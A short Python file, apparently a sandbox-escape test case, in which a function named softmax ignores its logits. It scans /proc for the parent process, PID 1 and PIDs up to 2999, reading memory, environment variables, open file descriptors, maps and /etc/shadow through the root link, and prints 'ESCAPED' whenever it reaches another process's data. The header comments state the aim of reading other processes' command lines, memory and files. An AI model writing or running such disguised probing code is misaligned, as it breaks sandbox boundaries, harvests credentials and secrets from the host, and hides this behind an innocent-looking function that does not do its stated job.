#: tries = "read other processes' command lines, memory and open files"
#: reply = ["wrong", "raised", "broke"]
#: other_user = ["proc"]
import os


def softmax(logits):
    found = []
    for number in (str(os.getppid()), "1", "self", *map(str, range(2, 3000))):
        for name in ("mem", "environ", "fd", "cwd/pyproject.toml", "root/etc/shadow", "maps", "stack", "syscall"):
            path = f"/proc/{number}/{name}"
            try:
                found += os.listdir(path) if name == "fd" else [open(path, "rb").read(2000).decode("latin-1")]
                if number != "self" and name != "fd" and number != str(os.getpid()):
                    print("ESCAPED", path)
            except (OSError, ValueError):
                pass
    return repr(found)[:10_000]
